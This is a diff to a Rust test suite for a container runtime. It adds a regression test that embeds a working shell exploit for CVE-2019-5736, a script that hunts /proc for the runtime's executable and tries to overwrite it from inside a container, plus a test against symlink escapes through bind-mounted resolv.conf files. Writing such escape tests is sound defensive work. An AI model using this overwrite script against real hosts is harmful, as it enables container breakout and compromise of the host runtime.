@@ -6,16 +6,19 @@
 use std::{
     fs,
     os::unix::fs::{FileTypeExt as _, symlink},
+    path::Path,
 };
 
+use rustix::fs::{CWD, Mode, mkfifoat};
 use serde_json::{Value, json};
 
 use crate::support::{
-    Container, Outcome,
-    bundle::{add_mount, bind},
+    Container, Invocation, Outcome,
+    bundle::{add_mount, bind, join_namespace},
     container::NO_OPTIONS,
     host::{self, need_other_than, need_own},
     suite::suite,
+    wait_until,
 };
 
 suite![
@@ -38,6 +41,8 @@ suite![
     the_kernel_log_and_keys_are_out_of_reach,
     the_environment_of_the_runtime_is_out_of_reach,
     a_device_path_through_a_link_stays_inside,
+    cve_2019_5736_a_neighbour_cannot_overwrite_the_runtime_that_it_has_opened,
+    a_file_bound_onto_a_dangling_link_stays_inside,
 ];
 
 /// A directory of the host with one file, which no container may touch.
@@ -311,5 +316,119 @@ fn a_device_path_through_a_link_stays_inside() -> Outcome {
     let _ = container.run();
     outside.is_untouched();
     assert!(fs::metadata("/dev/null").unwrap().file_type().is_char_device());
+    Ok(())
+}
+
+/// What Docker gives a container by default, without CAP_SYS_PTRACE.
+const DOCKERS: [&str; 14] = [
+    "CAP_AUDIT_WRITE",
+    "CAP_CHOWN",
+    "CAP_DAC_OVERRIDE",
+    "CAP_FOWNER",
+    "CAP_FSETID",
+    "CAP_KILL",
+    "CAP_MKNOD",
+    "CAP_NET_BIND_SERVICE",
+    "CAP_NET_RAW",
+    "CAP_SETFCAP",
+    "CAP_SETGID",
+    "CAP_SETPCAP",
+    "CAP_SETUID",
+    "CAP_SYS_CHROOT",
+];
+
+/// Opens the executable of every process that is no busybox, and writes to it as soon as nobody executes it any more.
+const OVERWRITE: &str = "trap 'exit 0' TERM; echo ready
+attack() {
+    case $(readlink /proc/$$/fd/3) in */busybox) return ;; esac
+    echo opened $1
+    while [ -e /proc/$1/exe ]; do :; done
+    for i in 1 2 3 4 5; do
+        if (echo overwritten >/proc/$$/fd/3) 2>/dev/null; then echo overwrote; fi
+    done
+    echo tried $1
+}
+round=0
+while :; do
+    for p in /proc/[0-9]*; do
+        n=${p#/proc/}
+        [ $n = $$ ] || { attack $n; } 3<$p/exe
+    done 2>/dev/null
+    round=$((round + 1)); echo $round >/tmp/round
+done";
+
+/// The live exploit: one container waits in the pid namespace that the other joins, whose program is the runtime.
+fn cve_2019_5736_a_neighbour_cannot_overwrite_the_runtime_that_it_has_opened() {
+    let attacker = Container::with_script(OVERWRITE).edit(|spec| {
+        for set in ["bounding", "permitted", "effective"] {
+            spec["process"]["capabilities"][set] = json!(DOCKERS);
+        }
+    });
+    let output = attacker.launch();
+    output.wait_for_stdout("ready");
+    let namespace = format!("/proc/{}/ns/pid", attacker.pid());
+
+    let count = |what: &str| output.stdout_now().matches(what).count();
+    let round = || {
+        let text = fs::read_to_string(attacker.bundle.rootfs().join("tmp/round")).unwrap_or_default();
+        text.trim().parse::<u32>().unwrap_or(0)
+    };
+
+    // A copy, for it is lost if this fails.
+    let copy = attacker.beside("runtime-under-attack");
+    fs::copy(host::runtime(), &copy).unwrap();
+    let before = fs::read(&copy).unwrap();
+    // The first stays for as long as nobody reads its log; the others come and go.
+    for args in [&["/proc/self/exe", "--log", "/log", "list"][..], &["/proc/self/exe", "--version"]] {
+        for _ in 0..5 {
+            let victim = Container::with_args(args).edit(|spec| {
+                join_namespace(spec, "pid", &namespace);
+                // What a runtime that is not static needs.
+                for libraries in ["/lib", "/lib64", "/usr"].map(Path::new) {
+                    if libraries.exists() {
+                        add_mount(spec, bind(libraries, libraries.to_str().unwrap(), &["ro"]));
+                    }
+                }
+            });
+            mkfifoat(CWD, victim.bundle.rootfs().join("log"), Mode::RUSR | Mode::WUSR).unwrap();
+            let opened = count("opened");
+            let on_copy = || Invocation::new(&copy).arg("--root").arg(victim.root());
+            let run = on_copy().args(["run", "--detach", "--bundle"]).arg(victim.bundle.path());
+            let ran = run.arg(&victim.id).output();
+            assert_eq!(ran.code(), 0, "{ran:#?}");
+            // Long enough to be seen several times, unless it is opened, which the attacker follows up first.
+            let last = round() + 10;
+            wait_until("the attacker has looked around", || round() >= last || count("opened") > opened);
+            on_copy().args(["delete", "--force", &victim.id]).output();
+        }
+    }
+    wait_until("the attacker has tried", || count("opened") == count("tried"));
+    assert!(fs::read(&copy).unwrap() == before, "the runtime was overwritten: {}", output.stdout_now());
+    assert!(!output.stdout_now().contains("overwrote"), "{}", output.stdout_now());
+}
+
+/// The image of a distribution that uses systemd-resolved has such a /etc/resolv.conf, and engines bind a file onto it.
+fn a_file_bound_onto_a_dangling_link_stays_inside() -> Outcome {
+    need_other_than("runc", "refuses it")?;
+    let outside = Outside::new();
+    let absolute = outside.path().join("new-file");
+    let links = [
+        ("../run/systemd/resolve/stub-resolv.conf", "run/systemd/resolve/stub-resolv.conf"),
+        ("/run/made.conf", "run/made.conf"),
+        ("../../../../../../run/up.conf", "run/up.conf"),
+        (absolute.to_str().unwrap(), absolute.to_str().unwrap().trim_start_matches('/')),
+    ];
+    for (link, made) in links {
+        let container = Container::with_args(["cat", "/etc/resolv.conf"]);
+        let source = container.beside("resolv.conf");
+        fs::write(&source, "nameserver 192.0.2.1\n").unwrap();
+        let container = container.edit(|spec| add_mount(spec, bind(&source, "/etc/resolv.conf", &["rbind"])));
+        replace(&container, "etc/resolv.conf", link);
+        assert_eq!(container.says(), "nameserver 192.0.2.1", "{link}");
+        let made = fs::symlink_metadata(container.bundle.rootfs().join(made)).unwrap();
+        assert_eq!((made.is_file(), made.len()), (true, 0), "{link}");
+        container.leaves_nothing();
+    }
+    outside.is_untouched();
     Ok(())
 }
